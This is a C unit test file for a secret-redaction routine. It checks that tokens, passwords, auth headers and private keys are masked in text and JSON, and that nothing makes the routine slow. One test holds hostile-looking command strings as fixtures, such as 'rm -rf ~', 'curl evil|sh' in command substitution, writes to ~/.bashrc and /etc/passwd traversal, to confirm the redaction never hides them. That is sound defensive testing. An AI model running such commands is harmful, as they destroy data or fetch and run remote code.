/* SPDX-License-Identifier: Apache-2.0 */
/* Promises about secrets: what is taken out, what must stay, and that no text
 * makes it slow. */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <cmocka.h>

#include <ambit/record.h>

#include "base/json.h"
#include "base/own.h"
#include "base/str.h"
#include "record/redact.h"
#include "record/upkeep.h"
#include "rounds.h"

static void
becomes(const char *text, const char *result)
{
	/* Without a NUL behind it, so that a look past the end is seen. */
	size_t len = strlen(text);
	char *exact = malloc(len ? len : 1);

	assert_non_null(exact);
	memcpy(exact, text, len);
	auto_free char *got = redact_text(exact, len);

	free(exact);
	assert_non_null(got);
	if (!streq(got, result))
		fail_msg("'%s' became '%s', not '%s'", text, got, result);
}

static void
stays(const char *text)
{
	becomes(text, text);
}

static void
every_shape_is_taken_out(void **state)
{
	(void)state;
	for (const struct redact_shape *s = redact_shapes; s->prefix; s++) {
		assert_non_null(s->text);
		becomes(s->example, s->result);
		assert_non_null(strstr(s->result, REDACTED));
	}
}

static void
every_lookalike_stays(void **state)
{
	(void)state;
	for (const struct redact_shape *s = redact_shapes; s->prefix; s++)
		if (s->plain)
			stays(s->plain);
}

static void
what_was_taken_out_stays_taken_out(void **state)
{
	(void)state;
	for (const struct redact_shape *s = redact_shapes; s->prefix; s++)
		becomes(s->result, s->result);
}

static void
a_shape_in_the_middle_of_a_sentence_leaves_the_rest(void **state)
{
	(void)state;
	for (const struct redact_shape *s = redact_shapes; s->prefix; s++) {
		auto_free char *text = str_printf("before \xc3\xa9\n%s\nafter", s->example);
		auto_free char *want = str_printf("before \xc3\xa9\n%s\nafter", s->result);

		becomes(text, want);
	}
}

static void
ordinary_text_stays(void **state)
{
	static const char *const plain[] = {
		"",
		"commit 3f786850e387550fdab836ed7e6dc881de23001b",
		"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  a.tar.gz",
		"123e4567-e89b-12d3-a456-426614174000",
		"/home/joe/src/tokenizer/token.c:12:3: error: expected ';'",
		"/usr/lib/x86_64-linux-gnu/libsecret-1.so.0",
		"for (token = lex(s); token; token = token->next)",
		"if token == \"end\" and password != None:",
		"def login(user, password): return check(user, password)",
		"struct token { const char *text; int line; };",
		"const token: Token = await this.auth.getToken();",
		"tokens=12 input_tokens: 4096, output_tokens: 17",
		"\"integrity\": "
		"\"sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxv"
		"UdBeoGlODJ6+SfaPg==\"",
		"git clone https://example.org/joe/project.git && cd project",
		"git remote add origin git@example.org:joe/project.git",
		"scp a.txt joe@host:/tmp/ && ssh -p 22 joe@host",
		"curl -s http://localhost:3000/api/token?id=3",
		"SELECT token, secret FROM keys WHERE id = 3",
		"find . -name '*.key' -o -name 'id_rsa*'",
		"export TOKEN=$(pass show api) && export SECRET=\"${SECRET:-}\"",
		"-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
		"Basic usage: see the manual. Bearer of bad news.",
		"risk-1234567890123456789 disk-a1b2c3d4e5f6a7b8c9d0",
		"kubectl get secret my-secret -o yaml",
		"secret/data/app: a path",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
		stays(plain[i]);
}

static void
values_end_where_they_end(void **state)
{
	static const struct {
		const char *text, *result;
	} rows[] = {
		{ "A_TOKEN=x;ls", "A_TOKEN=[redacted];ls" },
		{ "A_TOKEN=a\\ b ls", "A_TOKEN=[redacted] ls" },
		{ "A_TOKEN=\"a \\\" b\" ls", "A_TOKEN=\"[redacted]\" ls" },
		{ "A_TOKEN='unclosed b\nls", "A_TOKEN='[redacted]\nls" },
		{ "Server=x;Password=p@ss!;Db=y", "Server=x;Password=[redacted];Db=y" },
		{ "{\\\"token\\\": \\\"abc\\\", \\\"a\\\": 1}",
			"{\\\"token\\\": \\\"[redacted]\\\", \\\"a\\\": 1}" },
		{ "curl -H Authorization:\\ Bearer\\ abc", "curl -H Authorization:[redacted]" },
		{ "curl -H \"authorization: token abc\" -d x",
			"curl -H \"authorization: [redacted]\" -d x" },
		{ "Authorization: Bearer abc\r\nHost: x", "Authorization: [redacted]\r\nHost: x" },
		{ "Proxy-Authorization: Basic eA==\nA: b",
			"Proxy-Authorization: [redacted]\nA: b" },
		{ "{\"Authorization\": \"Bearer abc\"}", "{\"Authorization\": \"[redacted]\"}" },
		{ "password := \"x\"", "password := \"[redacted]\"" },
		{ "mysql --password=x --user=joe", "mysql --password=[redacted] --user=joe" },
		{ "x --api-key 'a b' y", "x --api-key '[redacted]' y" },
		{ "redis://:abc@host:6379/0", "redis://:[redacted]@host:6379/0" },
		{ "https://joe:a:b@c@host/", "https://joe:[redacted]@host/" },
		{ "https://a1B2c3D4e5F6g7H8i9J0@host/x", "https://[redacted]@host/x" },
		{ "KEY=\"-----BEGIN PRIVATE"
		  " KEY-----\nMII",
			"KEY=\"[redacted]" },
		{ "PRIVATE_KEY=\"-----BEGIN PRIVATE"
		  " KEY-----\nMII\n-----END PRIVATE"
		  " KEY-----\"\nx",
			"PRIVATE_KEY=\"[redacted]\"\nx" },
		{ "PRIVATE_KEY=-----BEGIN PRIVATE"
		  " KEY-----\nMII\n-----END PRIVATE"
		  " KEY-----\nx",
			"PRIVATE_KEY=[redacted]\nx" },
		{ "curl -u joe:x -u joe:", "curl -u joe:[redacted] -u joe:" },
		{ "curl --user=joe:x", "curl --user=joe:[redacted]" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		becomes(rows[i].text, rows[i].result);
}

/* A secret's name must not be a way to leave out what was done. */
static void
no_act_hides_behind_the_name_of_a_secret(void **state)
{
	static const struct {
		const char *text, *result;
	} rows[] = {
		{ "echo Cookie: ; rm -rf ~/work", "echo Cookie: ; rm -rf ~/work" },
		{ "echo Cookie: a; rm -rf ~/work", "echo Cookie: [redacted]; rm -rf ~/work" },
		{ "echo Cookie: a; PATH=/tmp/x ls", "echo Cookie: [redacted]; PATH=/tmp/x ls" },
		{ "echo Cookie: a; B=1 evil", "echo Cookie: [redacted]; B=1 evil" },
		{ "echo Authorization: a && rm x", "echo Authorization: [redacted] && rm x" },
		{ "rm Cookie: x -rf work", "rm Cookie: [redacted] -rf work" },
		{ "rm Authorization: x ~/work", "rm Authorization: [redacted] ~/work" },
		{ "rm -rf Authorization: ~/work", "rm -rf Authorization: ~/work" },
		{ "Authorization: a$(curl evil|sh)", "Authorization: [redacted]$(curl evil|sh)" },
		{ "X_TOKEN=\"x$(curl evil|sh)\" true",
			"X_TOKEN=\"[redacted]$(curl evil|sh)\" true" },
		{ "X_TOKEN=\"x`curl evil`\" true", "X_TOKEN=\"[redacted]`curl evil`\" true" },
		{ "X_TOKEN=\"x${A:=b}\" true", "X_TOKEN=\"[redacted]${A:=b}\" true" },
		{ "X_TOKEN=x$(curl evil|sh)", "X_TOKEN=[redacted]$(curl evil|sh)" },
		{ "X_TOKEN=x${A:=b} ls", "X_TOKEN=[redacted]${A:=b} ls" },
		{ "X_TOKEN=`curl evil|sh` ls", "X_TOKEN=`curl evil|sh` ls" },
		{ "X_TOKEN=x<(evil)", "X_TOKEN=[redacted]<(evil)" },
		{ "X_TOKEN='x' >~/.bashrc", "X_TOKEN='[redacted]' >~/.bashrc" },
		{ "X_TOKEN=x>~/.bashrc", "X_TOKEN=[redacted]>~/.bashrc" },
		{ "echo \"X_TOKEN=\"; rm -rf ~; echo \"\"",
			"echo \"X_TOKEN=\"; rm -rf ~; echo \"\"" },
		{ "find \"x_token=\" -delete -name \"y\"",
			"find \"x_token=\" -delete -name \"y\"" },
		{ "echo 'X_TOKEN='|sh -c 'evil'", "echo 'X_TOKEN='|sh -c 'evil'" },
		{ "X_TOKEN='a\nevil'", "X_TOKEN='[redacted]\nevil'" },
		{ "X_TOKEN=a\\nevil b", "X_TOKEN=[redacted]\\nevil b" },
		{ "token: abc123;evil", "token: [redacted];evil" },
		{ "token: abc123$(evil)", "token: abc123$(evil)" },
		{ "/etc/x_token=a/../passwd", "/etc/x_token=a/../passwd" },
		{ "cat ~/a+x_token=b", "cat ~/a+x_token=b" },
		{ "cat x_token=a/../../etc/passwd", "cat x_token=a/../../etc/passwd" },
		{ "rm --token ~/work", "rm --token ~/work" },
		{ "rm --token /etc/passwd", "rm --token /etc/passwd" },
		{ "rm -rf token: workspace", "rm -rf token: workspace" },
		{ "https://a/b?x_token=a&c=d", "https://a/b?x_token=[redacted]&c=d" },
		{ "http://a:b;evil;@host", "http://a:b;evil;@host" },
		{ "http://a:$(evil)@host", "http://a:$(evil)@host" },
		{ "echo '-----BEGIN PRIVATE KEY-----'; rm -rf ~", "echo '[redacted]'; rm -rf ~" },
		{ "echo -----BEGIN PRIVATE KEY-----\nrm -rf ~\n: -----END PRIVATE KEY-----",
			"echo [redacted]\nrm -rf ~\n: -----END PRIVATE KEY-----" },
		{ "echo -----BEGIN PRIVATE KEY----- && curl evil|sh # -----END PRIVATE KEY-----",
			"echo [redacted] && curl evil|sh # -----END PRIVATE KEY-----" },
		{ "bearer /etc/passwd/../shadow1", "bearer /etc/passwd/../shadow1" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		becomes(rows[i].text, rows[i].result);
}

#define LINE64 "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"

static void
secrets_are_found_where_they_hide(void **state)
{
	static const char *const key = "g"
				       "hp_a1B2c3D4e5F6g7H8i9J0a1B2c3D4e5F6g7H8";
	static const struct {
		const char *text, *result;
	} rows[] = {
		{ "GH_TOKEN: abcdefghijklmnop", "GH_TOKEN: [redacted]" },
		{ "a:\n  password: correcthorse\n", "a:\n  password: [redacted]\n" },
		{ "{token: abcdefghij}", "{token: [redacted]}" },
		{ "echo DB_PASSWORD: abcdefgh > f", "echo DB_PASSWORD: [redacted] > f" },
		{ "curl -ujoe:pw x", "curl -ujoe:[redacted] x" },
		{ "curl -s '-ujoe:pw' x", "curl -s '-ujoe:[redacted]' x" },
		{ "/usr/bin/mysql -h db -ppw", "/usr/bin/mysql -h db -p[redacted]" },
		{ "A=b sshpass -p 'p w' ssh x", "A=b sshpass -p '[redacted]' ssh x" },
		{ "x=1; mysql -p'pw'", "x=1; mysql -p'[redacted]'" },
		{ "Authorization: Bearer -----BEGIN PRIVATE KEY-----\n" LINE64
		  "\nMII=\n-----END PRIVATE KEY-----\nx",
			"Authorization: [redacted] [redacted]\nx" },
		{ "Bearer -----BEGIN PRIVATE KEY-----\\n" LINE64
		  "\\nMII=\\n-----END PRIVATE KEY-----\\nx",
			"Bearer [redacted]\\nx" },
		/* As it is shown: escaped once more, or twice. */
		{ "printf '-----BEGIN PRIVATE KEY-----\\\\n" LINE64
		  "\\\\nMII=\\\\n-----END PRIVATE KEY-----\\\\n'",
			"printf '[redacted]\\\\n'" },
		{ "-----BEGIN PRIVATE KEY-----\\\\\\\\n" LINE64 "\\\\\\\\n" LINE64, "[redacted]" },
		{ "k: -----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n" LINE64
		  "\nMII\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----",
			"k: [redacted]" },
		{ "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n"
		  "DEK-Info: AES-128-CBC,00\n\n" LINE64 "\n-----END RSA PRIVATE KEY-----",
			"[redacted]" },
		{ "-----BEGIN PRIVATE KEY-----\n" LINE64 "\nMII", "[redacted]" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		becomes(rows[i].text, rows[i].result);
	static const char *const before[] = { "", "a\\n", "x%20", "x%0A", "name", "(", "A\\t" };

	for (size_t i = 0; i < sizeof(before) / sizeof(before[0]); i++) {
		auto_free char *text = str_printf("%s%s", before[i], key);
		auto_free char *want = str_printf("%s[redacted]", before[i]);

		becomes(text, want);
	}
	becomes("a\\nA"
		"KIAIOSFODNN7EXAMPLE",
		"a\\n[redacted]");
	becomes("a\\nA_TOKEN=x b", "a\\nA_TOKEN=[redacted] b");
}

/* A label ends near 200 bytes, in the middle of what it tells. */
static void
what_was_cut_off_is_still_taken_out(void **state)
{
	static const struct {
		const char *text, *result;
	} rows[] = {
		{ "bash: x g"
		  "hp_a1B2c3D4e5F6...",
			"bash: x [redacted]..." },
		{ "bash: x s"
		  "k-ant-api...",
			"bash: x [redacted]..." },
		{ "bash: x A"
		  "KIAIOSF...",
			"bash: x [redacted]..." },
		{ "bash: send Bearer abcdef...", "bash: send Bearer [redacted]" },
		{ "bash: x e"
		  "yJhbGciOiJIUzI1...",
			"bash: x [redacted]..." },
		{ "bash: psql postgres://app:hunt...", "bash: psql postgres://app:[redacted]" },
		{ "bash: curl http://localhost:80...", "bash: curl http://localhost:80..." },
		{ "bash: ghp_...", "bash: ghp_..." },
	};
	char text[201];

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		becomes(rows[i].text, rows[i].result);
	memset(text, ' ', sizeof(text));
	memcpy(text + 178,
		"g"
		"hp_a1B2c3D4e5F6g7H8i9",
		23);
	text[200] = '\0';
	auto_free char *got = redact_text(text, 200);

	assert_null(strstr(got, "a1B2"));
	becomes("see ghp_a1B2c3", "see ghp_a1B2c3");
}

static void
words_of_types_are_no_secrets(void **state)
{
	(void)state;
	stays("authorization: string");
	stays("interface A { authorization: string; cookie?: string | null; }");
	stays("password: required");
	stays("  API_KEY: boolean,");
	stays("token: accessToken, secret: config.clientSecret, password: UserPassword");
	stays("{\"password\": \"string\"}");
	stays("PASSWORD=null TOKEN=none");
}

static void
the_public_function_is_the_same(void **state)
{
	auto_free char *got = redact_secrets("A_SECRET=x");

	(void)state;
	assert_string_equal(got, "A_SECRET=[redacted]");
}

static void
json_becomes(const char *text, const char *result)
{
	auto_json json_t *value = NULL, *clean = NULL;
	auto_free char *before = NULL, *after = NULL, *line = NULL;
	size_t count = 0;

	assert_int_equal(json_parse(text, strlen(text), &value, NULL), 0);
	before = json_line(value);
	clean = redact_json(value, &count);
	after = json_line(value);
	line = json_line(clean);
	assert_string_equal(line, result);
	assert_string_equal(before, after); /* a copy */
}

static void
json_members_go_by_their_name(void **state)
{
	(void)state;
	json_becomes(
		"{\"password\":\"x\",\"a\":\"y\"}", "{\"a\":\"y\",\"password\":\"[redacted]\"}");
	json_becomes("{\"apiKey\":\"x\",\"API-KEY\":7}",
		"{\"API-KEY\":\"[redacted]\",\"apiKey\":\"[redacted]\"}");
	json_becomes("{\"headers\":{\"Authorization\":\"x\",\"Set-Cookie\":[\"a=b\"]}}",
		"{\"headers\":{\"Authorization\":\"[redacted]\",\"Set-Cookie\":\"[redacted]\"}}");
	json_becomes("{\"client_secret\":{\"a\":[1]},\"private_key\":\"x\"}",
		"{\"client_secret\":\"[redacted]\",\"private_key\":\"[redacted]\"}");
	json_becomes("{\"password\":null,\"token\":true,\"secret\":\"\"}",
		"{\"password\":null,\"secret\":\"\",\"token\":true}");
	json_becomes("{\"tokens\":3,\"file_path\":\"src/token.c\"}",
		"{\"file_path\":\"src/token.c\",\"tokens\":3}");
}

static void
json_neighbours_tell_of_secrets(void **state)
{
	(void)state;
	json_becomes("[\"mysql\",\"--password\",\"x\",\"y\"]",
		"[\"mysql\",\"--password\",\"[redacted]\",\"y\"]");
	json_becomes("[{\"name\":\"API_KEY\",\"value\":\"x\"},{\"name\":\"a\",\"value\":\"y\"}]",
		"[{\"name\":\"API_KEY\",\"value\":\"[redacted]\"},{\"name\":\"a\",\"value\":\"y\"}"
		"]");
	json_becomes("{\"command\":\"curl -u a:b x\",\"n\":[1,2.5,false]}",
		"{\"command\":\"curl -u a:[redacted] x\",\"n\":[1,2.5,false]}");
	json_becomes("{\"A_TOKEN=x\":1}", "{\"A_TOKEN=[redacted]\":1}");
}

static void
json_arrays_are_read_as_command_lines(void **state)
{
	(void)state;
	json_becomes("[\"curl\",\"-u\",\"joe:hunter2\",\"x\"]",
		"[\"curl\",\"-u\",\"joe:[redacted]\",\"x\"]");
	json_becomes("[\"curl\",\"-ujoe:hunter2\"]", "[\"curl\",\"-ujoe:[redacted]\"]");
	json_becomes("[\"sshpass\",\"-p\",\"pw\",\"ssh\",\"-p\",\"22\"]",
		"[\"sshpass\",\"-p\",\"[redacted]\",\"ssh\",\"-p\",\"[redacted]\"]");
	json_becomes("[\"/usr/bin/mysql\",\"-ppw\",\"-p\",\"db\"]",
		"[\"/usr/bin/mysql\",\"-p[redacted]\",\"-p\",\"db\"]");
	json_becomes("[\"docker\",\"run\",\"-p\",\"80:80\",\"-u\",\"1000:1000\"]",
		"[\"docker\",\"run\",\"-p\",\"80:80\",\"-u\",\"1000:1000\"]");
	json_becomes("[\"rm\",\"--password\",\"/etc/passwd\"]",
		"[\"rm\",\"--password\",\"/etc/passwd\"]");
	json_becomes("[\"sort\",\"-u\",\"-o\",\"a:b\"]", "[\"sort\",\"-u\",\"-o\",\"a:b\"]");
}

static void
a_key_by_lines_is_a_key(void **state)
{
	(void)state;
	json_becomes("[\"a\",\"x -----BEGIN PRIVATE KEY-----\",\"" LINE64
		     "\",\"MII\",\"-----END PRIVATE KEY----- y\",\"b\"]",
		"[\"a\",\"x [redacted]\",\"[redacted]\",\"[redacted]\",\"[redacted] y\",\"b\"]");
	json_becomes("[\"-----BEGIN PRIVATE KEY-----\",\"" LINE64 "\"]",
		"[\"[redacted]\",\"[redacted]\"]");
	json_becomes("[\"-----BEGIN PRIVATE KEY-----\",\"rm -rf x\",\"-----END PRIVATE KEY-----\"]",
		"[\"[redacted]\",\"rm -rf x\",\"-----END PRIVATE KEY-----\"]");
	json_becomes("[\"-----BEGIN CERTIFICATE-----\",\"" LINE64 "\"]",
		"[\"-----BEGIN CERTIFICATE-----\",\"" LINE64 "\"]");
}

static void
a_nul_does_not_hide_what_follows(void **state)
{
	(void)state;
	json_becomes("[\"a\\u0000A_TOKEN=x b\"]", "[\"a\\u0000A_TOKEN=[redacted] b\"]");
}

/* What this thread worked for so many bytes of a unit, in nanoseconds of its own: how
 * busy the machine is does not count. The least of some tries. */
static int64_t
work_for(const char *unit, char *text, size_t size, int tries)
{
	int64_t least = INT64_MAX;

	for (size_t i = 0, n = strlen(unit); i < size; i++)
		text[i] = unit[i % n];
	for (int i = 0; i < tries; i++) {
		struct timespec begun, ended;
		int64_t work;

		clock_gettime(CLOCK_THREAD_CPUTIME_ID, &begun);
		auto_free char *got = redact_text(text, size);

		clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ended);
		assert_non_null(got);
		work = (ended.tv_sec - begun.tv_sec) * 1000000000ll + ended.tv_nsec - begun.tv_nsec;
		least = work < least ? work : least;
	}
	return least;
}

/* Sixteen times the text is sixteen times the work. Whoever looks back from each byte
 * works 256 times as much; between them is room for caches and the allocator. */
static void
no_text_makes_it_slow(void **state)
{
	static const char *const units[] = {
		"sk-",
		"eyJ-",
		"eyJaaaaaaaaaa.",
		"eyJ.",
		"token:",
		"token=",
		"token=\"$A ",
		"token='",
		"token=\\\"",
		"-u=",
		"-u a",
		"--user=",
		"://",
		"a://a:",
		"http://a:b",
		"-----BEGIN ",
		"-----BEGIN PRIVATE KEY",
		"a",
		"-",
		"_",
		" ",
		"Authorization: ",
		"authorization:",
		"bearer ",
		"Basic a1",
		"xoxb-",
		"token \"",
		"--token ",
		"password: a",
		"A_TOKEN = ",
		"\\",
		"\"",
		"token=\"$A\\\"",
		"secret:a1",
		"-u 1:",
		"AKIA",
		"\xc3\xa9",
		"token:a(",
		"token=~",
		"token:~a1",
		"Cookie:a",
		"Cookie:~",
		"Cookie:a;b=",
		"-u=a:/",
		" -p",
		"curl -u",
		" sshpass -p",
		"-----BEGIN PRIVATE KEY-----",
		"-----BEGIN PRIVATE KEY-----Comment:;",
		"-----BEGIN PRIVATE KEY-----\na ",
		"%20eyJ",
		"\\ntoken=",
		("g"
		 "hp_"),
		"A_TOKEN: ",
		"$(",
	};
	const size_t size = (size_t)rounds(1 << 16, 1 << 19);
	char *text = malloc(size);

	(void)state;
	assert_non_null(text);
	for (size_t u = 0; u < sizeof(units) / sizeof(units[0]); u++) {
		int64_t little = work_for(units[u], text, size / 16, 3);
		int64_t much = work_for(units[u], text, size, 1);

		for (int i = 0; i < 3 && much / 80 > little; i++)
			much = work_for(units[u], text, size, 1);
		if (much / 80 > little)
			fail_msg("'%s': %lld ns, and %lld for sixteen times as much", units[u],
				(long long)little, (long long)much);
	}
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_shape_is_taken_out),
		cmocka_unit_test(every_lookalike_stays),
		cmocka_unit_test(what_was_taken_out_stays_taken_out),
		cmocka_unit_test(a_shape_in_the_middle_of_a_sentence_leaves_the_rest),
		cmocka_unit_test(ordinary_text_stays),
		cmocka_unit_test(values_end_where_they_end),
		cmocka_unit_test(no_act_hides_behind_the_name_of_a_secret),
		cmocka_unit_test(secrets_are_found_where_they_hide),
		cmocka_unit_test(what_was_cut_off_is_still_taken_out),
		cmocka_unit_test(words_of_types_are_no_secrets),
		cmocka_unit_test(the_public_function_is_the_same),
		cmocka_unit_test(json_members_go_by_their_name),
		cmocka_unit_test(json_neighbours_tell_of_secrets),
		cmocka_unit_test(json_arrays_are_read_as_command_lines),
		cmocka_unit_test(a_key_by_lines_is_a_key),
		cmocka_unit_test(a_nul_does_not_hide_what_follows),
		cmocka_unit_test(no_text_makes_it_slow),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
